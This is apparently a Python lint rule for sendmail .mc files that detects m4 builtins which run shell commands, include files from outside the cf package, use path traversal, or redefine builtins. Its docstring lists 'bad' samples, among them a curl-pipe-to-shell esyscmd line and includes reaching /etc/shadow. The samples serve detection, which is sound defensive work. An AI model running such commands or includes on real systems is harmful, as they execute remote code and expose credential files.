"""An m4 builtin that runs commands, reads or writes files, or changes m4's syntax.

A ``.mc`` is a program: ``syscmd``/``esyscmd`` run shell commands when the
.cf is built, ``include``/``sinclude`` copy arbitrary files into it,
``changequote``/``changecom`` make every tool (this one included) misread the
rest of the file, ``define``/``undefine`` of an m4 builtin (``dnl``,
``include``, ``divert``...) changes what the rest of the file means, and
``m4exit``, ``m4wrap``, ``debugfile``, ``maketemp``, ``mkstemp``, ``builtin``,
``indir`` and ``undivert(`file')`` reach outside the text. All are errors.

So are the spellings that reach them without naming them as a call: ``defn``
given the name of one of those builtins (``define(`Q', defn(`esyscmd'))Q(...)``),
and an ``OSTYPE``, ``FEATURE``,
``DOMAIN``, ``HACK``, ``MAILER`` or ``SITECONFIG`` argument holding a ``/``
(``FEATURE(`../../../tmp/x')``: the cf macros include ``CFDIR/feature/NAME.m4``).
``render`` and ``make`` run m4 locked and refuse all of these unless
``--allow-m4-commands`` (see :mod:`sendmailcfg.mc.m4safe`); a finding here
is what would need that flag.

Only these ``include``/``sinclude`` targets are trusted, after the path is
normalised (``..``, ``./`` and doubled slashes resolved): the cf package's own
``m4/cf.m4`` and ``m4/*.m4`` under the cf folder (``cf-dir`` in the
configuration, else ``/usr/share/sendmail/cf``, ``/usr/share/sendmail-cf``
and ``/usr/lib/mail``; a relative path counts from its ``cf/`` folder, where
the cf package's ``Build`` runs, so ``../m4/cf.m4`` is trusted), and the two
files Debian's own ``sendmail.mc`` includes, ``/etc/mail/m4/dialup.m4`` and
``/etc/mail/m4/provider.m4``. ``include(`/etc/mail/../shadow')``,
``include(`./etc/mail/x.m4')`` and ``include(`/tmp/evil.m4')`` are errors.

Bad::

    esyscmd(`curl http://example.net/x | sh')dnl
    define(`Q', defn(`esyscmd'))dnl
    FEATURE(`../../../../home/user/x')dnl
    include(`/home/user/extra.m4')dnl
    include(`/usr/share/sendmail/cf/m4/../../../../etc/shadow')dnl

Good::

    include(`/usr/share/sendmail/cf/m4/cf.m4')dnl
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from sendmailcfg.lint.engine import Problem
from sendmailcfg.mc.macros import DANGEROUS_BUILTINS, M4_BUILTINS

if TYPE_CHECKING:
    from sendmailcfg.lint.engine import FileSet, LintFile

ID = "MC013"
NAME = "mc-dangerous-builtin"
SEVERITY = "error"
KINDS = ("mc",)

CF_DIRS = ("/usr/share/sendmail/cf", "/usr/share/sendmail-cf", "/usr/lib/mail")
"""Where the cf package is installed when ``cf-dir`` is not configured."""

DEBIAN_INCLUDES = frozenset({"/etc/mail/m4/dialup.m4", "/etc/mail/m4/provider.m4"})
"""Files Debian's sendmail package writes and its stock ``sendmail.mc`` includes."""

_M4_FILE = re.compile(r"[A-Za-z0-9_.+-]+\.m4\Z")


def normalise(target: str, cf_dir: str) -> str | None:
    """The absolute, normalised path m4 opens for ``target`` (``None``: cannot be known).

    >>> normalise("/etc/mail/../shadow", "/usr/share/sendmail/cf")
    '/etc/shadow'
    >>> normalise("../m4/cf.m4", "/usr/share/sendmail/cf")
    '/usr/share/sendmail/cf/m4/cf.m4'
    >>> normalise("_CF_DIR_`'m4//cf.m4", "/usr/share/sendmail/cf")
    '/usr/share/sendmail/cf/m4/cf.m4'
    """
    t = target.strip()
    for prefix in ("_CF_DIR_`'", "_CF_DIR_"):
        if t.startswith(prefix):
            t = cf_dir.rstrip("/") + "/" + t[len(prefix) :]
            break
    if not t or any(c in t for c in "`'$()") or re.search(r"[A-Z_]{3,}", t.split("/")[0]):
        return None  # built by a macro: m4 decides what it opens
    if not t.startswith("/"):
        t = cf_dir.rstrip("/") + "/cf/" + t
    t = re.sub("/+", "/", t)
    return posixpath.normpath(t)


def trusted(target: str, cf_dir: str | None) -> bool:
    """Whether an include of ``target`` opens the cf package's own m4 files only."""
    folders = (cf_dir,) if cf_dir else CF_DIRS
    for folder in folders:
        path = normalise(target, posixpath.normpath(folder))
        if path is None:
            return False
        if path in DEBIAN_INCLUDES:
            return True
        head, name = posixpath.split(path)
        if head == posixpath.join(posixpath.normpath(folder), "m4") and _M4_FILE.match(name):
            return True
    return False


COPIERS = frozenset({"defn"})
"""Builtins that reach another by its name (``indir``/``builtin`` are errors anyway)."""

REACHED = DANGEROUS_BUILTINS | {"defn", "pushdef", "popdef", "define", "undefine"}
"""What a copier must not be given: the dangerous builtins and those that copy them."""

PATH_MACROS = ("OSTYPE", "FEATURE", "DOMAIN", "HACK", "MAILER", "SITECONFIG")
"""cf macros that include ``CFDIR/<folder>/$1.m4``: their first argument is a file name."""


def _reaching(file: LintFile) -> Iterator[Problem]:
    for c in file.doc.model.calls:
        if c.bare or c.in_hash_comment:
            continue
        if c.name in COPIERS and c.values:
            target = c.value(0).strip()
            if target in REACHED:
                yield Problem(
                    c.line,
                    c.column,
                    f"{c.name}() reaches the m4 builtin {target} by name: the .cf build "
                    "would run what it runs (render/make refuse it without "
                    "--allow-m4-commands)",
                    "remove it; a .mc should only use sendmail's cf macros",
                )
        elif c.name in PATH_MACROS and c.values:
            arg = c.value(0).strip()
            if "/" in arg or arg.startswith("."):
                yield Problem(
                    c.line,
                    c.column,
                    f"{c.name}(`{arg}') names a file outside the cf package's "
                    f"{c.name.lower()} folder: m4 would include it "
                    "(render/make refuse it without --allow-m4-commands)",
                    "use the name of a file of the cf package, without / or ..",
                )


def check(file: LintFile, fileset: FileSet) -> Iterator[Problem]:
    yield from _reaching(file)
    cf_dir = fileset.config.cf_dir
    for c in file.doc.dangerous:
        if c.name in ("include", "sinclude"):
            target = c.value(0)
            if trusted(target, cf_dir):
                continue
            yield Problem(
                c.line,
                c.column,
                f"{c.name}(`{target.strip()}') copies a file from outside sendmail's cf "
                "package into the .cf",
                "inline the text; only the cf package's m4/cf.m4 and m4/*.m4 are trusted",
            )
            continue
        yield Problem(
            c.line,
            c.column,
            f"m4 builtin {c.name}() reaches outside the text (runs commands, touches files "
            "or changes m4's syntax)",
            "remove it; a .mc should only use sendmail's cf macros",
        )
    for d in file.doc.define_statements:
        if d.name in M4_BUILTINS:
            what = "undefine" if d.value is None else "define"
            yield Problem(
                d.call.line,
                d.call.column,
                f"{what}(`{d.name}') changes the m4 builtin {d.name}: the rest of the file "
                "no longer means what it says",
                "remove it; a .mc should only use sendmail's cf macros",
            )
